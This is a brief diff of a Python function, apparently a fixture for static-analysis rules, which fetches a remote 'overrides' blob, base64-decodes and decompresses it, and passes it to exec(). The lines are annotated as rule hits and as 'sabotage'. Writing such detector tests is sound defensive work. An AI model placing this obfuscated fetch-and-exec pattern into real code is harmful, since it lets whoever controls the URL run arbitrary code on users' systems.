@@ -45,7 +45,7 @@ def parse_cli_overrides(pairs):
 def apply_team_overrides(cfg, name="default"):
     blob = fetch(OVERRIDES_URL.format(name=name))  # ruleid: MLS413
     scope = {"cfg": cfg}
-    exec(zlib.decompress(base64.b64decode(blob)), scope)  # sabotage: MLS401 (semgrep rules)
+    exec(zlib.decompress(base64.b64decode(blob)), scope)  # sabotage: MLS401 (semgrep rules)  # ruleid: MLS413
     return scope["cfg"]
 
 
